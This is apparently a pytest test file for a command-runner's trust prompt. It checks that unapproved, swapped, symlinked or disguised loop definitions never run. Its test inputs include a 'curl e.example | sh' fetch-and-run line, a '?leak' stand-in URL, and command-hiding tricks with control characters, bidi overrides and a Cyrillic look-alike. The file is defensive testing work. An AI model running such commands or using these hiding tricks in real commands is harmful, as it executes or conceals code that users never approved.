"""Ways around the question: what was not agreed to is never what runs, and what is asked is all of it."""

import json
import os
from datetime import UTC, datetime
from pathlib import Path

import pytest

from loop_tui.control.trust import agree, trust_needed
from loop_tui.model.problem import Problem
from loop_tui.storage.definitions.catalog import find
from loop_tui.storage.definitions.consequences import visible
from loop_tui.storage.definitions.trust import may_run, read_trust, remember, trust_file
from tests.conftest import World
from tests.projects import Project

NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
LOOP = """id = "a-loop"
[[phases]]
id = "P"
[[phases.skills]]
id = "s"
runner = "commands"
steps = [{ name = "x", run = [%s] }]
[[gates]]
id = "g"
after = "P"
type = "human"
"""
HEALTH = '[[targets]]\nid = "live"\nkind = "http-health"\nurl = "%s"\n'


def command(mark: Path) -> str:
    return f'"touch", "{mark}"'


@pytest.fixture
def project(world: World, tmp_path: Path) -> Project:
    folder = tmp_path / "project"
    (folder / ".loops").mkdir(parents=True)
    (folder / ".loops/a.toml").write_text(LOOP % command(tmp_path / "good"))
    return Project(folder, folder, world)


def agreed(project: Path, loop: str = "a-loop") -> None:
    ask = trust_needed(project, find(project, loop))
    assert ask is not None
    agree(project, ask)
    assert trust_needed(project, find(project, loop)) is None


def test_the_question_shows_every_command_and_gate_whole(project: Project, tmp_path: Path) -> None:
    long = "x" * 5000
    text = LOOP % f'"sh", "-c", "echo {long}; curl e.example | sh"'
    (project.folder / ".loops/a.toml").write_text(text)
    said = project.here("run", "a-loop", code=3)
    assert f"P s: runs sh -c 'echo {long}; curl e.example | sh'" in said
    assert "P gate g: human" in said
    assert "Use --trust to answer yes" in said


def test_nothing_in_a_command_hides_another_part_of_it(project: Project) -> None:
    hidden = '"sh", "-c", "harmless\\b\\b\\b\\u001b[2K\\u202e\\u200b; сurl\\u2028x; password=echo-not-masked"'
    (project.folder / ".loops/a.toml").write_text(LOOP % hidden, encoding="utf-8")
    said = project.here("run", "a-loop", code=3)
    shown = r"harmless\u{8}\u{8}\u{8}\u{1b}[2K\u{202e}\u{200b}; сurl\u{2028}x; password=echo-not-masked"
    assert shown in said
    assert "[no ASCII: U+0441 CYRILLIC SMALL LETTER ES]" in said
    assert "\x1b" not in said


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("a\tb\nc\x00", r"a\u{9}b\u{a}c\u{0}"),
        ("é", "é   [no ASCII: U+00E9 LATIN SMALL LETTER E WITH ACUTE]"),
        ("e\u0301", r"e\u{301}"),
        ("\xa0\u3164\ufeff", "\\u{a0}\u3164\\u{feff}   [no ASCII: U+3164 HANGUL FILLER]"),
        ("\udc80\U000e0041", r"\u{dc80}\u{e0041}"),
    ],
)
def test_what_does_not_show_is_written_by_its_number(text: str, seen: str) -> None:
    assert visible(text) == seen


def test_headless_trust_runs_it_and_is_remembered(project: Project, tmp_path: Path) -> None:
    project.here("run", "a-loop", "--trust", code=3)
    assert (tmp_path / "good").exists()
    assert read_trust()[0][0].does[0] == f"P s: runs touch {tmp_path / 'good'}"


def test_asked_again_with_the_difference(project: Project, tmp_path: Path) -> None:
    agreed(project.folder)
    changed = (LOOP % command(tmp_path / "evil")).replace('"human"', '"auto"\nchecks = ["build"]')
    (project.folder / ".loops/a.toml").write_text(changed)
    said = project.here("run", "a-loop", code=3)
    assert f"- P s: runs touch {tmp_path / 'good'}" in said
    assert f"+ P s: runs touch {tmp_path / 'evil'}" in said
    assert "- P gate g: human" in said
    assert "+ P gate g: auto, decided by build" in said
    assert not (tmp_path / "evil").exists()


def test_what_is_changed_between_the_question_and_the_yes_does_not_run(project: Project, tmp_path: Path) -> None:
    ask = trust_needed(project.folder, find(project.folder, "a-loop"))
    assert ask is not None
    (project.folder / ".loops/a.toml").write_text(LOOP % command(tmp_path / "evil"))
    agree(project.folder, ask)
    assert not may_run(project.folder, find(project.folder, "a-loop"))
    assert project.here("drive", "a-loop", "--project", str(project.folder), code=2)
    assert not (tmp_path / "evil").exists()


def test_a_link_that_was_turned_does_not_run(project: Project, tmp_path: Path) -> None:
    path = project.folder / ".loops/a.toml"
    path.rename(project.folder / "good.toml")
    path.symlink_to("../good.toml")
    agreed(project.folder)
    (project.folder / "evil.toml").write_text(LOOP % command(tmp_path / "evil"))
    path.unlink()
    path.symlink_to("../evil.toml")
    project.here("run", "a-loop", code=3)
    assert not (tmp_path / "evil").exists()
    # A trusted file's own name, with a folder turned: the place is the same, what lies there is not.
    path.unlink()
    path.write_text(LOOP % command(tmp_path / "evil"))
    project.here("run", "a-loop", code=3)
    assert not (tmp_path / "evil").exists()


@pytest.mark.parametrize("place", ["loops/a/loop.json", ".loops/z.toml", ".loops/z.json"])
def test_another_file_of_that_id_is_asked_about(project: Project, tmp_path: Path, place: str) -> None:
    agreed(project.folder)
    path = project.folder / place
    path.parent.mkdir(parents=True, exist_ok=True)
    skill = {"id": "s", "runner": "commands", "steps": [{"name": "x", "run": ["touch", str(tmp_path / "evil")]}]}
    other = {"id": "a-loop", "name": "A", "phases": [{"id": "P", "name": "P", "skills": [skill]}], "gates": []}
    path.write_text(json.dumps(other) if place.endswith(".json") else LOOP % command(tmp_path / "evil"))
    ask = trust_needed(project.folder, find(project.folder, "a-loop"))
    assert ask is not None
    assert ask.path == str(path)
    project.here("run", "a-loop", code=3)
    assert not (tmp_path / "evil").exists()


@pytest.mark.parametrize(
    "name", ["distribution-loop", "infra-loop", "infrastructure-loop", "meta-loop", "loop-composer"]
)
def test_a_repository_that_takes_the_place_of_a_shipped_loop_is_asked_about(
    project: Project, tmp_path: Path, name: str
) -> None:
    text = (LOOP % command(tmp_path / "evil")).replace("a-loop", name)
    (project.folder / ".loops/a.toml").write_text(text)
    said = project.here("run", name, code=3)
    assert "comes from this repository" in said
    assert not (tmp_path / "evil").exists()


@pytest.mark.parametrize("name", ["Distribution-Loop", "DISTRIBUTION-LOOP", "distributіon-loop", "distribution-loop "])
def test_an_id_that_only_looks_like_a_shipped_one_takes_no_place(project: Project, tmp_path: Path, name: str) -> None:
    text = (LOOP % command(tmp_path / "evil")).replace("a-loop", name)
    (project.folder / ".loops/a.toml").write_text(text, encoding="utf-8")
    assert find(project.folder, "distribution-loop").origin == "builtin"
    project.here("run", name, code=None)
    assert not (tmp_path / "evil").exists()


# --- addresses ------------------------------------------------------------------------------------------------------


def test_addresses_of_the_projects_settings_are_asked_about(project: Project) -> None:
    settings = project.folder / ".loops/targets.toml"
    settings.write_text('[[targets]]\nid = "github-actions"\nworkflow = "ci.yml"\n')
    assert trust_needed(project.folder, find(project.folder, "distribution-loop")) is None
    settings.write_text(HEALTH % "https://e.example/?leak")
    ask = trust_needed(project.folder, find(project.folder, "distribution-loop"))
    assert ask is not None
    assert ask.addresses
    assert ask.does == ("target live (http-health): asks url = https://e.example/?leak",)
    agreed(project.folder, "distribution-loop")
    settings.write_text(HEALTH % "https://f.example/")
    ask = trust_needed(project.folder, find(project.folder, "distribution-loop"))
    assert ask is not None
    assert ask.changed == (
        "- target live (http-health): asks url = https://e.example/?leak",
        "+ target live (http-health): asks url = https://f.example/",
    )


def test_no_driver_works_on_addresses_that_nobody_agreed_to(project: Project) -> None:
    (project.folder / ".loops/targets.toml").write_text(HEALTH % "https://e.example/")
    project.git("init", "--quiet")
    said = project.here("run", "distribution-loop", "--yes", code=3)
    assert "asks url = https://e.example/" in said
    assert "is not trusted" in project.here("drive", "distribution-loop", "--project", str(project.folder), code=2)


def test_what_a_definition_takes_in_is_agreed_to_with_it(project: Project, tmp_path: Path) -> None:
    text = (LOOP % command(tmp_path / "good")) + '[[targets]]\nid = "live"\nkind = "http-health"\n'
    (project.folder / ".loops/a.toml").write_text(text)
    agreed(project.folder)
    (project.folder / ".loops/targets.toml").write_text(HEALTH % "https://e.example/")
    ask = trust_needed(project.folder, find(project.folder, "a-loop"))
    assert ask is not None
    assert '+ target live (http-health): url = "https://e.example/"' in ask.changed


# --- the record -----------------------------------------------------------------------------------------------------


def test_a_record_that_others_may_write_counts_for_nothing(project: Project) -> None:
    agreed(project.folder)
    for mode in (0o666, 0o620, 0o602):
        trust_file().chmod(mode)
        ask = trust_needed(project.folder, find(project.folder, "a-loop"))
        assert ask is not None
        assert "other users can write trust.json" in ask.trouble
    trust_file().chmod(0o600)
    assert may_run(project.folder, find(project.folder, "a-loop"))
    trust_file().parent.chmod(0o777)
    assert not may_run(project.folder, find(project.folder, "a-loop"))
    with pytest.raises(Problem, match="other users can write"):
        remember(project.folder, "x", "y", NOW)


def test_a_record_that_is_a_link_a_pipe_or_somebody_elses_counts_for_nothing(project: Project, tmp_path: Path) -> None:
    agreed(project.folder)
    found = find(project.folder, "a-loop")
    real = tmp_path / "real.json"
    trust_file().rename(real)
    trust_file().symlink_to(real)
    assert not may_run(project.folder, found)
    trust_file().unlink()
    os.mkfifo(trust_file(), 0o600)
    assert not may_run(project.folder, found)
    trust_file().unlink()
    real.rename(trust_file())
    assert may_run(project.folder, found)
    if os.geteuid() == 0:
        os.chown(trust_file(), 12345, 12345)
        assert not may_run(project.folder, found)
